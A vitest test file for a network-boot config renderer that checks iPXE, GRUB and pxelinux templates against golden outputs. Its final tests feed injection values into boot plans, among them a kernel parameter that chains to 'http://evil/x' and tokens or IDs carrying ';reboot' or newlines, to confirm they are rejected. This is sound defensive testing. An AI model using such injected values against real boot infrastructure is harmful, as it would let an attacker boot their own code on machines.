import { describe, expect, it } from 'vitest';
import type { BootPlan, BootPurpose } from '../domain/boot-plan.ts';
import type { MacAddress } from '../domain/mac-address.ts';
import {
  kernelCommandLine,
  renderGrubChainConfig,
  renderGrubConfig,
  renderIpxeChainScript,
  renderIpxeScript,
  renderPxelinuxConfig,
} from './boot-config.ts';

const K = 'a'.repeat(64);
const I = 'b'.repeat(64);
const S = 'c'.repeat(64);
const MAC = '52:54:00:12:34:56' as MacAddress;
const BASE = 'http://10.0.0.1:5248';

function plan(purpose: BootPurpose, overrides: Partial<BootPlan> = {}): BootPlan {
  return {
    machineId: 'm-1',
    version: 3,
    macs: [MAC],
    purpose,
    os: 'debian',
    release: 'bookworm',
    arch: 'amd64',
    kernelParams: 'console=ttyS0,115200n8',
    files: [
      { role: 'kernel', sha256: K, sizeBytes: 1, name: 'vmlinuz' },
      { role: 'initrd', sha256: I, sizeBytes: 1, name: 'initrd.img' },
      { role: 'squashfs', sha256: S, sizeBytes: 1, name: 'root.squashfs' },
    ],
    hostname: 'node1',
    metadataToken: 'tok-123',
    ...overrides,
  };
}

const PARAMS_IPXE =
  `BOOTIF=01-52-54-00-12-34-56 ip=dhcp ingot.purpose=install ingot.machine=m-1 ` +
  `ingot.agent=${BASE} ingot.squashfs=${BASE}/images/${S}?mac=${MAC} ` +
  `ingot.metadata=${BASE}/MAAS/metadata/ ingot.token=tok-123 console=ttyS0,115200n8`;
const PARAMS_TFTP =
  `BOOTIF=01-52-54-00-12-34-56 ip=dhcp ingot.purpose=install ingot.machine=m-1 ` +
  `ingot.agent=${BASE} ingot.squashfs=${BASE}/images/${S} ` +
  `ingot.metadata=${BASE}/MAAS/metadata/ ingot.token=tok-123 console=ttyS0,115200n8`;

const IPXE_INSTALL = `#!ipxe
# Ingot: install debian bookworm amd64 on node1 (m-1)
echo Ingot: install debian bookworm amd64 on node1 (m-1)
kernel ${BASE}/images/${K}?mac=${MAC} initrd=initrd ${PARAMS_IPXE} || goto failed
initrd --name initrd ${BASE}/images/${I}?mac=${MAC} || goto failed
boot || goto failed
:failed
echo Ingot: network boot failed, rebooting in 10 s
sleep 10
reboot
`;

const IPXE_LOCAL = `#!ipxe
# Ingot: node1 (m-1) boots its local disk
echo Ingot: node1 (m-1) boots its local disk
iseq \${platform} efi && goto local_exit ||
sanboot --no-describe --drive 0x80 || goto local_exit
:local_exit
exit
`;

const IPXE_UNKNOWN = `#!ipxe
# Ingot: unknown MAC ${MAC} (DHCP enlists new machines), booting the local disk
echo Ingot: unknown MAC ${MAC} (DHCP enlists new machines), booting the local disk
iseq \${platform} efi && goto local_exit ||
sanboot --no-describe --drive 0x80 || goto local_exit
:local_exit
exit
`;

const GRUB_INSTALL = `set default=0
set timeout=0

menuentry 'Ingot: install debian bookworm amd64 on node1 (m-1)' {
    echo 'Loading kernel...'
    linux /images/${K} ${PARAMS_TFTP}
    echo 'Loading initrd...'
    initrd /images/${I}
}
`;

const GRUB_LOCAL = `set default=0
set timeout=0

menuentry 'Ingot: node1 (m-1) boots its local disk' {
    echo 'Ingot: node1 (m-1) boots its local disk'
    for loader in /efi/debian/shimx64.efi /efi/debian/grubx64.efi /efi/boot/bootx64.efi; do
        if search --no-floppy --set=root --file $loader; then
            chainloader $loader
            boot
        fi
    done
    exit
}
`;

const PXELINUX_INSTALL = `DEFAULT ingot
PROMPT 0
TIMEOUT 0
SAY Ingot: install debian bookworm amd64 on node1 (m-1)
LABEL ingot
  KERNEL /images/${K}
  INITRD /images/${I}
  APPEND ${PARAMS_TFTP}
`;

const PXELINUX_LOCAL = `DEFAULT local
PROMPT 0
TIMEOUT 0
SAY Ingot: node1 (m-1) boots its local disk
LABEL local
  LOCALBOOT 0
`;

describe('boot config templates', () => {
  const cases: Record<string, [actual: string, golden: string]> = {
    'iPXE install': [
      renderIpxeScript({ plan: plan('install'), mac: MAC, baseUrl: BASE }),
      IPXE_INSTALL,
    ],
    'iPXE local': [renderIpxeScript({ plan: plan('local'), mac: MAC, baseUrl: BASE }), IPXE_LOCAL],
    'iPXE unknown MAC': [renderIpxeScript({ mac: MAC, baseUrl: BASE }), IPXE_UNKNOWN],
    'GRUB install': [
      renderGrubConfig({ plan: plan('install'), mac: MAC, baseUrl: BASE }),
      GRUB_INSTALL,
    ],
    'GRUB local': [renderGrubConfig({ plan: plan('local'), mac: MAC, baseUrl: BASE }), GRUB_LOCAL],
    'pxelinux install': [
      renderPxelinuxConfig({ plan: plan('install'), mac: MAC, baseUrl: BASE }),
      PXELINUX_INSTALL,
    ],
    'pxelinux local': [
      renderPxelinuxConfig({ plan: plan('local'), mac: MAC, baseUrl: BASE }),
      PXELINUX_LOCAL,
    ],
    'iPXE chain': [renderIpxeChainScript(), '#!ipxe\nchain ipxe/${netX/mac} || exit\n'],
    'GRUB chain': [
      renderGrubChainConfig(),
      'set default=0\nset timeout=0\nconfigfile /grub/grub.cfg-${net_default_mac}\n',
    ],
  };
  it.each(Object.entries(cases))('renders %s', (_name, [actual, golden]) => {
    expect(actual).toBe(golden);
  });

  it.each(['install', 'commission', 'ephemeral', 'rescue'] as const)(
    'renders a network iPXE boot that iPXE accepts for %s',
    (purpose) => {
      const script = renderIpxeScript({ plan: plan(purpose), mac: MAC, baseUrl: BASE });
      const lines = script.trimEnd().split('\n');
      expect(lines[0]).toBe('#!ipxe');
      const commands = lines.filter((l) => l !== '' && !l.startsWith('#') && !l.startsWith(':'));
      expect(commands.map((l) => l.split(' ')[0])).toEqual([
        'echo',
        'kernel',
        'initrd',
        'boot',
        'echo',
        'sleep',
        'reboot',
      ]);
      expect(script).toContain(`ingot.purpose=${purpose} `);
      // A `goto` must name a label that exists.
      for (const target of script.matchAll(/goto (\S+)/g)) {
        expect(lines).toContain(`:${target[1] ?? ''}`);
      }
    },
  );

  it('boots ephemeral plans from the root image when there is no squashfs', () => {
    const files = [
      ...plan('ephemeral').files.filter((f) => f.role !== 'squashfs'),
      { role: 'root-image', sha256: 'd'.repeat(64), sizeBytes: 1, name: 'root.img' },
    ];
    const line = kernelCommandLine(plan('ephemeral', { files }), MAC, BASE, false);
    expect(line).toContain(`ingot.squashfs=${BASE}/images/${'d'.repeat(64)} `);
  });

  const unsafe: Record<string, Partial<BootPlan>> = {
    'newline in kernel params': { kernelParams: 'quiet\nchain http://evil/x' },
    'iPXE variable in kernel params': { kernelParams: 'x=${root-path}' },
    'quote in kernel params': { kernelParams: "x='1'" },
    'space in token': { metadataToken: 'a b' },
    'semicolon in token': { metadataToken: 'a:b;reboot' },
    'newline in machine id': { machineId: 'm\nreboot' },
    'no kernel': { files: plan('install').files.filter((f) => f.role !== 'kernel') },
    'initrd hash not a sha256': {
      files: plan('install').files.map((f) => (f.role === 'initrd' ? { ...f, sha256: '../x' } : f)),
    },
  };
  it('passes a MAAS-form metadata token (consumer:token:secret) to the kernel', () => {
    const token = `${'C'.repeat(24)}:${'t0'.repeat(12)}:${'S9'.repeat(12)}`;
    for (const render of [renderIpxeScript, renderGrubConfig, renderPxelinuxConfig]) {
      const text = render({
        plan: plan('install', { metadataToken: token }),
        mac: MAC,
        baseUrl: BASE,
      });
      expect(text).toContain(` ingot.token=${token} `);
    }
  });

  it.each(Object.entries(unsafe))('boots the local disk when the plan has %s', (_name, bad) => {
    for (const render of [renderIpxeScript, renderGrubConfig, renderPxelinuxConfig]) {
      const text = render({ plan: plan('install', bad), mac: MAC, baseUrl: BASE });
      expect(text).toMatch(/local/i);
      expect(text).not.toMatch(/evil|reboot\n.*reboot|\$\{root-path\}|'1'/);
      expect(text).not.toContain('tok-123');
    }
  });

  it('never lets a hostname break out of a title', () => {
    const text = renderGrubConfig({
      plan: plan('install', { hostname: "x' { reboot }" }),
      mac: MAC,
      baseUrl: BASE,
    });
    expect(text).toContain(
      "menuentry 'Ingot: install debian bookworm amd64 on x____reboot__ (m-1)' {",
    );
  });
});
